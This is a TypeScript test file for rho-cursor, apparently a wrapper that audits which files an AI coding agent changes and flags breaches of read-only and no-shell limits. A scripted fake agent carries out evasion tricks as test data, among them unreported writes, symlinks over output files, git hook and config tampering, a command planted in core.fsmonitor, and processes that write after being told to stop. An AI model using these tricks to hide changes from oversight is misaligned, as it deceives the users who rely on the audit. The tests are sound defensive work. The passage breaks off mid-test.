// The ledger as a user meets it: an agent of our own that really writes, deletes and runs shell commands,
// with and without tool calls, and what rho-cursor then reports it changed, whatever the agent claimed.
import { execFileSync, spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, FIXTURES, makeAgentDir } from '../helpers/agent-path.js';
import { finish, runCli, startCli, tempDir, waitForStdout } from '../helpers/cli.js';
import { waitForGone } from '../helpers/processes.js';
import { SHORT_GRACE, testTiming } from '../helpers/timing.js';
import { chunk, effect, permissionRequest, toolUpdate } from '../helpers/lines.js';
import {
  filterAttack,
  git,
  repoState,
  repoWithSubmodule,
  slowGit,
  stopWhileGitRuns,
  userRepo,
  writeFiles,
} from '../helpers/repo.js';

const SJ = ['--output-format', 'stream-json'];
const agentPath = makeAgentDir(join(FIXTURES, 'scripted.mjs')).then((d) => join(d, 'cursor-agent'));

// Runs the CLI in a workspace with an agent that follows the script.
async function run(args: string[], cwd: string, script: Record<string, unknown>) {
  return runCli(args, {
    agent: await agentPath,
    cwd,
    cliConfig: { approvalMode: 'allowlist' },
    env: { RHO_SCRIPT: JSON.stringify(script) },
  });
}

// A workspace outside git with a few files.
function plainWorkspace(): string {
  const ws = join(tempDir('rho-ws-'), 'ws');
  writeFiles(ws, { 'old.md': 'old\n', 'src/a.ts': 'a\n', 'keep.txt': 'same\n' });
  return ws;
}

// An edit the agent reports, and makes: src/a.ts; a new file and a delete it does not report.
const MIXED = [
  effect({ write: 'src/a.ts', text: 'b\n' }),
  toolUpdate('t_edit', 'edit', 'completed', {
    title: 'Edit src/a.ts',
    content: [{ type: 'diff', path: 'src/a.ts', oldText: 'a\n', newText: 'b\n' }],
  }),
  effect({ write: 'new.ts', text: 'n\n' }),
  effect({ sh: 'rm old.md' }),
  chunk('done'),
];

const resultOf = (events: Array<Record<string, unknown>>) => events.at(-1)!;

describe('what changed, outside git (a capped walk)', () => {
  it('text mode: one stderr line of what changed, and a warning naming what no tool accounts for', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', 'go'], ws, { before: MIXED });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toBe('done');
    expect(r.stderr).toContain('changed 3 files: +new.ts, -old.md, ~src/a.ts\n');
    const warning = r.stderr.split('\n').find((l) => l.includes('named by no completed edit'))!;
    expect(warning).toContain('new.ts, old.md');
    expect(warning).not.toContain('src/a.ts');
  });

  it('stream-json: result.changes lists files (never folders), with the unaccounted ones', async () => {
    const ws = plainWorkspace();
    const script = { before: [...MIXED, effect({ write: 'deep/er/file.txt', text: 'x' })] };
    const r = await run(['run', ...SJ, 'go'], ws, script);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events)).toMatchObject({
      type: 'result',
      changes: {
        added: ['deep/er/file.txt', 'new.ts'],
        modified: ['src/a.ts'],
        deleted: ['old.md'],
        unaccounted: ['deep/er/file.txt', 'new.ts', 'old.md'],
        truncated: false,
      },
    });
    const warning = r.events.find((e) => e.type === 'warning' && e.code === 'unaccounted-change');
    expect(warning?.message).toContain('deep/er/file.txt');
  });

  it('a file rewritten with the same bytes is not a change', async () => {
    const ws = plainWorkspace();
    // The snapshot's hashes are taken in the background once the prompt is sent (snapshot.ts): the agent
    // rewrites the file a moment later, as a real agent's first edit comes. A file not hashed yet when it
    // changes can only be compared by its stat, and reads as modified (a fresh-clone CI run on a loaded
    // machine did so with 10 ms).
    const r = await run(['run', ...SJ, 'go'], ws, {
      before: [effect({ sh: 'sleep 0.3; cat keep.txt > t; mv t keep.txt' })],
    });
    expect(resultOf(r.events).changes).toEqual({
      added: [],
      modified: [],
      deleted: [],
      unaccounted: [],
      truncated: false,
    });
  });

  it('a file too large to hash is compared by its stat: no cap reached, not truncated (found by review)', async () => {
    const ws = plainWorkspace();
    writeFileSync(join(ws, 'big.bin'), Buffer.alloc(9 * 1024 * 1024, 1));
    const r = await run(['run', ...SJ, 'go'], ws, {
      before: [effect({ write: 'new.ts', text: 'n\n' }), chunk('done')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toMatchObject({ added: ['new.ts'], truncated: false });
  });

  it('--no-changes: nothing is measured, changes is null, no line and no warning', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', '--no-changes', '--output-format', 'json', 'go'], ws, { before: MIXED });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout) as Record<string, unknown>;
    expect(out.changes).toBeNull();
    expect(JSON.stringify(out.warnings)).not.toContain('unaccounted-change');
    expect(r.stderr).not.toContain('changed');
  });

  it('the summary has a table of the changes; json carries them too', async () => {
    const ws = plainWorkspace();
    const summary = join(tempDir(), 'summary.md');
    const r = await run(['run', '--output-format', 'json', '--summary-file', summary, 'go'], ws, {
      before: MIXED,
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect((JSON.parse(r.stdout) as { changes: unknown }).changes).toMatchObject({ added: ['new.ts'] });
    const md = readFileSync(summary, 'utf8');
    expect(md).toContain('#### Changes (3)');
    expect(md).toContain('| new.ts | added | no |');
    expect(md).toContain('| src/a.ts | modified | yes |');
    expect(md).toContain('| old.md | deleted | no |');
  });
});

describe('what changed, in a git work tree', () => {
  it('git status plus hashes: a dirty file changed again, a clean one modified, a new folder, and the index left alone', async () => {
    const repo = userRepo();
    const before = repoState(repo);
    const r = await run(['run', ...SJ, 'go'], repo, {
      before: [
        effect({ write: 'README.md', text: 'the agent too\n' }),
        effect({ write: 'src/b.ts', text: 'export const b = 2;\n' }),
        effect({ write: 'gen/out/x.js', text: 'x' }),
        effect({ sh: 'rm old.md' }),
        effect({ write: 'ignored.log', text: 'ignored files are not seen\n' }),
      ],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toEqual({
      added: ['gen/out/x.js'],
      modified: ['README.md', 'src/b.ts'],
      deleted: ['old.md'],
      unaccounted: ['README.md', 'gen/out/x.js', 'old.md', 'src/b.ts'],
      truncated: false,
    });
    // The ledger reads; it never writes the user's index (no refresh on the side).
    expect(repoState(repo).index).toBe(before.index);
  });

  it('from a subdirectory: paths relative to the workspace, and nothing outside it', async () => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, 'go'], join(repo, 'src'), {
      before: [effect({ write: 'a.ts', text: 'changed\n' }), effect({ sh: 'echo x > ../outside.txt' })],
    });
    expect(resultOf(r.events).changes).toMatchObject({ added: [], modified: ['a.ts'], deleted: [] });
  });

  it('a commit the agent makes is still seen as the files it changed', async () => {
    const repo = userRepo();
    git(repo, 'config', 'user.email', 't@example.com');
    git(repo, 'config', 'user.name', 't');
    const r = await run(['run', ...SJ, 'go'], repo, {
      before: [effect({ write: 'src/a.ts', text: 'committed\n' }), effect({ sh: 'git commit -qam agent' })],
    });
    expect(resultOf(r.events).changes).toMatchObject({ modified: expect.arrayContaining(['src/a.ts']) });
  });
  it('a git status that fails after the turn is a ledger-failed warning and changes null, never "nothing changed"', async () => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, 'go'], repo, {
      before: [
        effect({ write: 'src/a.ts', text: 'changed\n' }),
        effect({ write: '.git/index', text: 'not an index' }),
      ],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toBeNull();
    const warning = r.events.find((e) => e.type === 'warning' && e.code === 'ledger-failed');
    // (The ledger's status reads its own copy of the index: the agent's broken one fails where it is read.)
    expect(warning?.message).toMatch(
      /^the workspace's changes could not be measured: git (status|diff-index) failed: /,
    );
  });
});

describe('past the ledger’s cap of 20,000 files, in git', () => {
  // A repository with more untracked files than the snapshot looks at: those past the cap were there all
  // along, and git's own control files (listed after them, once) were there too.
  function bigRepo(): string {
    const repo = userRepo();
    mkdirSync(join(repo, 'many'));
    spawnSync('sh', ['-c', 'seq 1 20010 | sed s/^/f/ | xargs touch'], { cwd: join(repo, 'many') });
    return repo;
  }

  it('an agent that does nothing breaches nothing: no file reads as added, and the result says the cap was reached', async () => {
    const repo = bigRepo();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, { before: [chunk('looked')] });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toEqual({
      added: [],
      modified: [],
      deleted: [],
      unaccounted: [],
      truncated: true,
    });
  });

  it('a file the agent adds is still seen (exit 8 under --fence read-only)', async () => {
    const repo = bigRepo();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [effect({ write: 'new.sh', text: 'x' })],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({ added: ['new.sh'], truncated: true });
  });
});

describe('breach: a promise about effects, checked by the ledger', () => {
  it('--fence read-only: a change made by a shell command the agent never reported is exit 8, naming it; result last', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, {
      before: [effect({ sh: 'echo pwned > planted.sh' }), chunk('I changed nothing')],
    });
    expect(r.exitCode).toBe(8);
    const result = resultOf(r.events);
    expect(result).toMatchObject({ type: 'result', exitCode: 8, error: { code: 'fence_breached' } });
    expect((result.error as { message: string }).message).toContain('+planted.sh');
    expect(r.stderr).toContain('planted.sh');
  });

  it('--fence read-only: a process of the agent that writes as it is told to end is still measured: the look waits until the agent is gone', async () => {
    const ws = plainWorkspace();
    // In the agent's group, it writes 0.3 s after its SIGTERM; ready (outside the workspace) once trapped.
    const late =
      '( trap "sleep 0.3; echo late > late.txt; exit 0" TERM; : > ../ready; while :; do sleep 0.05; done ) >/dev/null 2>&1 & ' +
      'while [ ! -e ../ready ]; do sleep 0.01; done';
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, {
      before: [effect({ sh: late }), chunk('I changed nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    const result = resultOf(r.events);
    expect(result).toMatchObject({ changes: { added: ['late.txt'] }, error: { code: 'fence_breached' } });
  });

  // Found by review: the end now waits for the agent's kill ladder (2 s for one that ignores SIGTERM); a Ctrl-C
  // there ended the look before it started, and hid a breach already on disk (exit 130, changes null).
  it('--fence read-only: a first SIGINT while the end waits for the agent to die only hurries it: the look runs, exit 8', async () => {
    const ws = plainWorkspace();
    const started = startCli(['run', ...SJ, '--fence', 'read-only', 'go'], {
      agent: await agentPath,
      cwd: ws,
      cliConfig: { approvalMode: 'allowlist' },
      env: {
        RHO_SCRIPT: JSON.stringify({
          ignoreTerm: true,
          before: [effect({ write: 'n.txt', text: 'x' }), chunk('I changed nothing')],
        }),
      },
    });
    await waitForStdout(started.child, '"type":"message"');
    await new Promise((r) => setTimeout(r, 400));
    started.child.kill('SIGINT');
    const r = await finish(started, true);
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events)).toMatchObject({
      changes: { added: ['n.txt'] },
      error: { code: 'fence_breached' },
    });
  });

  // Found by review: after --timeout the wait for the agent was given the readers' grace, which ran out with the
  // ladder's own: the look raced the SIGKILL, and files written in between were on disk but not in changes.
  it('--timeout: the look after a timed-out turn waits for the SIGKILL too: every file on disk is in changes', async () => {
    const ws = plainWorkspace();
    const writer =
      '( trap "" TERM; : > ../ready-w; i=0; while :; do i=$((i+1)); : > w$i.txt; sleep 0.01; done ) >/dev/null 2>&1 & ' +
      'while [ ! -e ../ready-w ]; do sleep 0.01; done';
    const r = await runCli(['run', ...SJ, '--fence', 'read-only', '--timeout', '1s', 'go'], {
      agent: await agentPath,
      cwd: ws,
      cliConfig: { approvalMode: 'allowlist' },
      env: {
        ...testTiming(SHORT_GRACE),
        RHO_SCRIPT: JSON.stringify({ ignoreTerm: true, answer: false, before: [effect({ sh: writer })] }),
      },
    });
    const onDisk = readdirSync(ws)
      .filter((f) => /^w\d+\.txt$/.test(f))
      .sort();
    const added = ((resultOf(r.events).changes as { added: string[] } | null)?.added ?? []).filter((f) =>
      /^w\d+\.txt$/.test(f),
    );
    expect(onDisk.length).toBeGreaterThan(0);
    expect([...added].sort()).toEqual(onDisk);
    expect(resultOf(r.events)).toMatchObject({ error: { code: 'fence_breached' } });
  });

  it('--no-changes -o: a process of the agent that writes -o’s file as it is told to end does not replace the answer', async () => {
    const ws = plainWorkspace();
    const late =
      '( trap "sleep 0.3; echo forged > answer.md; exit 0" TERM; : > ../ready-o; while :; do sleep 0.05; done ) >/dev/null 2>&1 & ' +
      'while [ ! -e ../ready-o ]; do sleep 0.01; done';
    const r = await run(['run', ...SJ, '--no-changes', '-o', 'answer.md', 'go'], ws, {
      before: [effect({ sh: late }), chunk('the real answer')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(readFileSync(join(ws, 'answer.md'), 'utf8')).toBe('the real answer');
  });

  // `rho-cursor run --plan ... > plan.md` in the workspace: the shell made the file, rho-cursor writes it.
  async function redirected(script: Record<string, unknown>) {
    const ws = plainWorkspace();
    const home = tempDir();
    const config = join(home, 'cursor');
    writeFiles(config, { 'cli-config.json': JSON.stringify({ approvalMode: 'allowlist' }) });
    const args = ['run', '--fence', 'read-only', '--agent', await agentPath, 'go'];
    const r = spawnSync('sh', ['-c', 'exec "$@" > plan.md 2> log.txt', 'sh', BIN, ...args], {
      cwd: ws,
      env: {
        ...process.env,
        HOME: home,
        CURSOR_CONFIG_DIR: config,
        RHO_SCRIPT: JSON.stringify(script),
        CI: 'true',
      },
      stdio: ['ignore', 'pipe', 'pipe'],
      timeout: 15_000,
    });
    return {
      exitCode: r.status,
      stdout: readFileSync(join(ws, 'plan.md'), 'utf8'),
      stderr: readFileSync(join(ws, 'log.txt'), 'utf8'),
    };
  }

  it("stdout and stderr redirected into the workspace are rho-cursor's own output, not a change", async () => {
    const r = await redirected({ before: [chunk('the plan')] });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toBe('the plan\n');
    expect(r.stderr).not.toMatch(/plan\.md|log\.txt|changed/);
  });

  it("the agent's own change beside them is still a breach, and they are not named", async () => {
    const r = await redirected({ before: [effect({ sh: 'echo pwned > planted.sh' }), chunk('the plan')] });
    expect(r.exitCode).toBe(8);
    expect(r.stderr).toContain('fence breached');
    expect(r.stderr).toContain('planted.sh');
    expect(r.stderr).not.toMatch(/plan\.md|log\.txt/);
  });

  it("a file the agent hard-links to rho-cursor's redirected output is still its change (found by review)", async () => {
    const r = await redirected({
      before: [effect({ sh: 'ln -f log.txt src/a.ts && printf "evil\\n" > src/a.ts' }), chunk('the plan')],
    });
    expect(r.exitCode).toBe(8);
    expect(r.stderr).toContain('src/a.ts');
  });

  it('--fence read-only: a chmod of a clean tracked file in a repository set to ignore modes is a change', async () => {
    const repo = userRepo();
    git(repo, 'config', 'core.fileMode', 'false');
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [effect({ sh: 'chmod +x src/a.ts' }), chunk('read only')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect((resultOf(r.events).error as { message: string }).message).toContain('~src/a.ts');
  });

  it('--fence read-only: a chmod of a file already hashed is a change, exit 8 (found by review)', async () => {
    const ws = plainWorkspace();
    // The sleep lets the ledger hash keep.txt first: its bytes stay the same, its mode does not.
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, {
      before: [effect({ sh: 'sleep 0.5; chmod 755 keep.txt' }), chunk('read only')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect((resultOf(r.events).error as { message: string }).message).toContain('~keep.txt');
  });

  it('--fence read-only with no change: exit 0', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, { before: [chunk('read only')] });
    expect(r.exitCode, r.stderr).toBe(0);
  });

  // -o, the summary and the wire log in the workspace (the run's cwd is the workspace: relative paths land
  // there). rho-cursor writes -o and the summary after the look, the wire log during the turn.
  const OWN = ['-o', 'answer.md', '--summary-file', 'summary.md', '--wire-log', 'wire.jsonl'];

  it("-o, the summary and the wire log in the workspace are rho-cursor's own: no change, exit 0", async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, '--fence', 'read-only', ...OWN, 'go'], ws, {
      before: [chunk('read only')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toMatchObject({ added: [], modified: [], deleted: [] });
    expect(readFileSync(join(ws, 'answer.md'), 'utf8')).toBe('read only');
    expect(readFileSync(join(ws, 'wire.jsonl'), 'utf8')).toContain('"dir":"c2a"');
  });

  it.each([
    ['-o', 'answer.md'],
    ['--summary-file', 'summary.md'],
    ['--wire-log', 'wire.jsonl'],
  ])(
    '--fence read-only: a link the agent puts at the path of %s is its change, exit 8 (found by review)',
    async (_, name) => {
      const ws = plainWorkspace();
      const victim = join(tempDir(), 'victim.txt');
      writeFileSync(victim, 'victim\n');
      const r = await run(['run', ...SJ, '--fence', 'read-only', ...OWN, 'go'], ws, {
        before: [effect({ sh: `rm -f ${name}; ln -s '${victim}' ${name}` }), chunk('read only')],
      });
      expect(r.exitCode, r.stderr).toBe(8);
      const result = resultOf(r.events);
      // The wire log was there before the prompt (opened at the start): a link in its place is modified.
      const changes = result.changes as Record<string, string[]>;
      expect([...changes.added!, ...changes.modified!]).toEqual([name]);
      expect((result.error as { message: string }).message).toContain(name);
    },
  );

  it('--fence read-only: a file the agent writes at the path of the wire log is its change, exit 8', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, '--fence', 'read-only', ...OWN, 'go'], ws, {
      before: [effect({ sh: 'echo planted > w && mv w wire.jsonl' }), chunk('read only')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect((resultOf(r.events).error as { message: string }).message).toContain('wire.jsonl');
  });

  it('--fence no-shell: a shell command the agent reports run, never allowed, is exit 8 naming the command', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, '--fence', 'no-shell', 'go'], ws, {
      before: [
        toolUpdate('t_sh', 'execute', 'pending', { title: 'Terminal', rawInput: { command: 'make deploy' } }),
        toolUpdate('t_sh', 'execute', 'in_progress', {}, false),
        toolUpdate(
          't_sh',
          'execute',
          'completed',
          { rawOutput: { exitCode: 0, stdout: 'deployed', stderr: '' } },
          false,
        ),
      ],
    });
    expect(r.exitCode).toBe(8);
    expect(resultOf(r.events)).toMatchObject({ error: { code: 'fence_breached' } });
    expect((resultOf(r.events).error as { message: string }).message).toContain('make deploy');
    // Shown as it ran, never "rejected".
    const states = r.events.filter((e) => e.type === 'tool').map((e) => e.status);
    expect(states).not.toContain('rejected');
  });

  it('--fence no-shell: a newly announced pending shell call is not marked rejected before any decision; Cursor\'s "completed" with no output under its deny rule is not run', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, '--fence', 'no-shell', 'go'], ws, {
      before: [
        toolUpdate('t_sh', 'execute', 'pending', { title: 'Terminal' }),
        chunk('after the announcement'),
        toolUpdate('t_sh', 'execute', 'completed', {}, false),
      ],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    const states = r.events.filter((e) => e.type === 'tool').map((e) => e.status);
    expect(states).toEqual(['pending', 'rejected']);
  });

  it.each([
    ['stream-json', SJ],
    ['text', []],
  ])(
    '%s: a tool rejected by rho-cursor that wrote anyway is shown as run, warned, and exit 8',
    async (_, fmt) => {
      const ws = plainWorkspace();
      const r = await run(['run', ...fmt, '--permissions', 'reject', 'go'], ws, {
        before: [
          toolUpdate('t_w', 'edit', 'pending', {
            title: 'Edit keep.txt',
            locations: [{ path: join(ws, 'keep.txt') }],
          }),
          permissionRequest(0, 't_w', 'edit', 'Edit keep.txt'),
          effect({ write: 'keep.txt', text: 'written anyway\n' }),
          toolUpdate('t_w', 'edit', 'completed', {}, false),
        ],
        waitAnswers: 1,
      });
      expect(r.exitCode).toBe(8);
      if (fmt.length > 0) {
        const last = r.events.filter((e) => e.type === 'tool').at(-1)!;
        expect(last).toMatchObject({ toolCallId: 't_w', status: 'completed' });
        expect(r.events.some((e) => e.type === 'warning' && e.code === 'rejected-tool-ran')).toBe(true);
        expect(resultOf(r.events)).toMatchObject({ error: { code: 'fence_breached' } });
      } else {
        expect(r.stderr).toMatch(/edit Edit keep\.txt rejected/);
        expect(r.stderr).toMatch(/edit Edit keep\.txt completed.*\(shown rejected above, but it ran\)/);
        expect(r.stderr).toContain('rho-cursor: fence breached');
      }
    },
  );

  it('a change outside the Write(...) allow rules is exit 8 naming it; inside them it is not', async () => {
    const ws = plainWorkspace();
    const args = ['run', ...SJ, '--permissions', 'allow', '--allow', 'Write(src/**)', 'go'];
    const inside = await run(args, ws, { before: [effect({ write: 'src/ok.ts', text: 'ok' })] });
    expect(inside.exitCode, inside.stderr).toBe(0);
    const outside = await run(args, ws, { before: [effect({ write: 'secrets.env', text: 'x' })] });
    expect(outside.exitCode).toBe(8);
    expect(resultOf(outside.events)).toMatchObject({ error: { code: 'fence_breached' } });
    expect((resultOf(outside.events).error as { message: string }).message).toContain(
      'outside the Write(...) rules: secrets.env',
    );
  });

  it('a rejected tool that did not write stays rejected: no breach', async () => {
    const ws = plainWorkspace();
    writeFileSync(join(ws, 'other.txt'), 'x');
    const r = await run(['run', ...SJ, '--permissions', 'reject', 'go'], ws, {
      before: [
        toolUpdate('t_w', 'edit', 'pending', { title: 'Edit keep.txt', locations: [{ path: 'keep.txt' }] }),
        permissionRequest(0, 't_w', 'edit', 'Edit keep.txt'),
        toolUpdate('t_w', 'edit', 'completed', {}, false),
      ],
      waitAnswers: 1,
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.events.filter((e) => e.type === 'tool').at(-1)).toMatchObject({ status: 'rejected' });
  });
});

describe("git's own control files are part of what the agent can change", () => {
  it.each([
    [
      'a hook',
      'printf "#!/bin/sh\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
      '.git/hooks/pre-commit',
    ],
    [
      'an exclude that hides a new file',
      'echo evil.sh > evil.sh && echo evil.sh >> .git/info/exclude',
      '.git/info/exclude',
    ],
    ['a config', 'git config user.name HACKED', '.git/config'],
    ['an attributes file', 'echo "* -diff" > .git/info/attributes', '.git/info/attributes'],
  ])('%s is a change: --fence read-only is exit 8', async (_, sh, path) => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [effect({ sh }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    const changes = resultOf(r.events).changes as Record<string, string[]>;
    expect([...changes.added!, ...changes.modified!]).toContain(path);
  });

  it('a config that moves the work tree elsewhere hides nothing: the edit is still listed', async () => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [
        effect({ sh: `echo evil > src/a.ts && git config core.worktree '${tempDir('rho-elsewhere-')}'` }),
        chunk('nothing'),
      ],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({
      added: [],
      modified: ['.git/config', 'src/a.ts'],
      deleted: [],
    });
  });

  it("a clean filter the agent defines is not run by the ledger's git status, and its edit is listed", async () => {
    const repo = userRepo();
    const { sh, marker } = filterAttack('.git/info/attributes', 'evil');
    const r = await run(['run', ...SJ, 'go'], repo, { before: [effect({ sh }), chunk('ok')] });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(marker)).toBe(false);
    expect(resultOf(r.events).changes).toMatchObject({
      modified: expect.arrayContaining(['.git/config', 'src/a.ts']),
      added: expect.arrayContaining(['.git/info/attributes']),
    });
  });

  it("a filter of the user's own is still run, and nothing the agent did not touch is listed", async () => {
    const repo = userRepo();
    git(repo, 'config', 'filter.mine.clean', 'cat');
    writeFileSync(join(repo, '.git', 'info', 'attributes'), '*.ts filter=mine\n');
    const r = await run(['run', ...SJ, 'go'], repo, {
      before: [effect({ sh: 'echo b > src/b.ts' }), chunk('ok')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toMatchObject({ added: [], modified: ['src/b.ts'], deleted: [] });
  });
});

describe('a file name that is not UTF-8 hides nothing', () => {
  it.each([
    ['in git', () => userRepo()],
    ['outside git', () => plainWorkspace()],
  ])(
    '%s: a new file named with a byte 0xff is listed (shown with U+FFFD), --fence read-only is exit 8',
    async (_, ws) => {
      const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws(), {
        before: [effect({ sh: 'printf x > "$(printf \'evil\\377.sh\')"' }), chunk('nothing')],
      });
      expect(r.exitCode, r.stderr).toBe(8);
      expect(resultOf(r.events).changes).toMatchObject({ added: ['evil\ufffd.sh'] });
    },
  );

  it('in git: a tracked file with such a name, modified, is modified (not deleted)', async () => {
    const repo = userRepo();
    execFileSync(
      'sh',
      [
        '-c',
        'printf a > "$(printf \'old\\377.txt\')" && git add -A && git -c user.email=a@b -c user.name=a commit -qm n',
      ],
      { cwd: repo },
    );
    const r = await run(['run', ...SJ, 'go'], repo, {
      before: [effect({ sh: 'printf b > "$(printf \'old\\377.txt\')"' }), chunk('ok')],
    });
    expect(resultOf(r.events).changes).toMatchObject({ added: [], modified: ['old\ufffd.txt'], deleted: [] });
  });
});

describe("the ledger's own git never runs a command the agent wrote into the repository's config", () => {
  it('core.fsmonitor set by the agent during the turn is not run by the git status after it', async () => {
    const repo = userRepo();
    const marker = join(tempDir('rho-fsmonitor-'), 'ran');
    const line = `\\n[core]\\n\\tfsmonitor = "touch ${marker}; false"\\n`;
    const r = await run(['run', ...SJ, '--fence', 'no-shell', 'go'], repo, {
      before: [effect({ sh: `printf '${line}' >> .git/config` }), chunk('ok')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('a ledger that could not measure never reads as a promise kept', () => {
  it('--fence read-only: the agent breaks the index (git status fails): exit 8, changes null', async () => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [effect({ sh: 'echo evil > src/a.ts && echo garbage > .git/index' }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events)).toMatchObject({ changes: null, error: { code: 'fence_breached' } });
  });

  it("--fence read-only: the agent commits into a new repository (the snapshot's HEAD is gone): exit 8", async () => {
    const repo = userRepo();
    const sh =
      'echo evil > src/a.ts && rm -rf .git && git init -q && git add -A && git -c user.email=a@b -c user.name=a commit -qm x';
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [effect({ sh }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events)).toMatchObject({ error: { code: 'fence_breached' } });
  });

  // Found by review: 10,001 empty folders (no change themselves) put the second walk past its cap, the first
  // was not, and a file beyond them went unseen: exit 0, changes empty, no word.
  const PAST_THE_CAP = 'mkdir a && (cd a && seq 10001 | xargs mkdir) && mkdir b && echo evil > b/evil.sh';

  it("--fence read-only: a workspace grown past the walk's cap during the turn is no promise kept: exit 8", async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, {
      before: [effect({ sh: PAST_THE_CAP }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    const result = resultOf(r.events) as {
      changes: { truncated: boolean };
      error: { code: string; message: string };
    };
    expect(result.changes.truncated).toBe(true);
    expect(result.error.code).toBe('fence_breached');
    expect(result.error.message).toContain("the workspace grew past the ledger's cap during the turn");
  });

  it('outside git, a hashing byte cap reached during the turn still lets a new file be seen (its walk was whole)', async () => {
    // 72 MB of files of under 8 MiB each: the 64 MiB hash budget runs out while the agent waits. Found while
    // fixing the above: the byte cap read as the walk's, and a new file was taken for one there all along.
    const ws = plainWorkspace();
    for (let i = 0; i < 9; i++) writeFileSync(join(ws, `big${i}.bin`), Buffer.alloc(8_000_000, i));
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, {
      before: [effect({ sh: 'sleep 3; echo evil > zz.sh' }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({ added: ['zz.sh'], truncated: true });
  });

  it('without a fence or Write rules a workspace grown past the cap during the turn is a warning (exit 0)', async () => {
    const ws = plainWorkspace();
    const r = await run(['run', ...SJ, 'go'], ws, {
      before: [effect({ sh: PAST_THE_CAP }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    const said = r.events.find((e) => e.type === 'warning' && e.code === 'ledger-incomplete');
    expect(said?.message).toContain("the workspace grew past the ledger's cap during the turn");
  });

  // Found by review: past PATH_MAX (4096 bytes, absolute) lstat and readdir fail with ENAMETOOLONG, which read
  // as nothing there. The agent makes such paths by relative steps; git works relative to the root too.
  const DEEP = (levels: number, file: string, text: string): string =>
    `node -e "const fs=require('fs');const n='d'.repeat(200);` +
    `for(let i=0;i<${levels};i++){fs.mkdirSync(n,{recursive:true});process.chdir(n)}fs.writeFileSync('${file}','${text}')"`;
  const rmDeep = (dir: string): void => void execFileSync('rm', ['-rf', dir]);

  it.each([
    ['outside git', () => plainWorkspace()],
    ['in git', () => userRepo()],
  ])('%s, a file past PATH_MAX under --fence read-only is no promise kept: exit 8', async (_, make) => {
    const ws = make();
    try {
      const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, {
        before: [effect({ sh: DEEP(25, 'payload.sh', 'evil') }), chunk('nothing')],
      });
      expect(r.exitCode, r.stderr).toBe(8);
      const result = resultOf(r.events) as { error: { code: string; message: string } };
      expect(result.error.message).toContain('the ledger could not look at all of the workspace');
    } finally {
      rmDeep(ws);
    }
  });

  it('a tracked file git can reach but whose absolute path is past PATH_MAX, rewritten: never read as deleted', async () => {
    const repo = userRepo();
    try {
